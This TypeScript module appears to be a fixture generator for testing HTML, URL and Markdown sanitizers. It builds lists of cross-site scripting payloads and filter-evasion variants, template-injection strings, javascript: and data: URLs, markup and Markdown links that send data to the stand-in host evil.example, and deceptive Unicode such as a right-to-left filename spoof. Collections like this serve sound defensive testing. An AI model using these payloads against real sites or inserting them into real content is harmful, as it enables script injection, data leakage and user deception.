const payload = 'alert(1)';
const events = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle'];
const elements = [
  'img',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video',
  'iframe',
  'math',
  'a',
  'marquee',
];
/** Ways around those who look for tags. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `' ${text} '`,
  (text) => text.replaceAll(' ', '/'),
];

/** Markup that runs where a text is taken for HTML. */
export const markups: readonly string[] = [
  `<script>${payload}</script>`,
  `<scr<script>ipt>${payload}</scr</script>ipt>`,
  `</textarea><script>${payload}</script>`,
  `--><script>${payload}</script><!--`,
  `<style>@import "https://evil.example/?d=1"</style>`,
  `<link rel=stylesheet href=https://evil.example/>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><input name=d></form>`,
  `&lt;script&gt;${payload}&lt;/script&gt;`,
  `{{constructor.constructor('${payload}')()}}`,
  `\${${payload}}`,
  `<%= ${payload} %>`,
  ...elements.flatMap((element) =>
    events.flatMap((event) => disguises.map((as) => as(`<${element} ${event}=${payload}>`))),
  ),
];

/** Addresses that do something, or tell somebody, where a text is taken for a link. */
export const addresses: readonly string[] = [
  ...['javascript', 'JaVaScRiPt', 'java\tscript', ' javascript', '\u0001javascript', 'vbscript'].map(
    (scheme) => `${scheme}:${payload}`,
  ),
  `data:text/html,<script>${payload}</script>`,
  ...(
    'data file ftp ws wss blob filesystem about chrome edge chrome-extension moz-extension view-source resource intent ' +
    'ms-msdt ms-settings tel sms mailto ssh git magnet steam slack zoommtg vscode x-apple.systempreferences'
  )
    .split(' ')
    .map((scheme) => `${scheme}://evil.example/?d=1`),
  'https://evil.example/?d=1',
  'http://127.0.0.1/?d=1',
  '//evil.example/?d=1',
  'www.evil.example',
];

/** Forms in which a text asks for a picture or a link elsewhere where it is taken for Markdown. */
const markdowns: readonly string[] = addresses.flatMap((address) => [
  `![x](${address})`,
  `[click](${address} "title")`,
  `<${address}>`,
  `[ref]: ${address}`,
]);

/** Texts that look otherwise than they are, hide in others, or pile up. */
export const disguised: readonly string[] = [
  'invoice\u202Egnp.exe',
  '\u2066a\u2069\u200B\u200C\u200D\uFEFFb',
  `Z${'\u0351\u0343\u034A'.repeat(40)}algo`,
  '👩\u200D👩\u200D👧\u200D👦🏴\u{E0067}\u{E0062}\u{E007F}',
  '\u0000\u001B[31mred\u0007',
  'ï»¿\uD800 alone',
  '__proto__',
];

/** All of them. */
export const hostileTexts: readonly string[] = [...markups, ...addresses, ...markdowns, ...disguised];
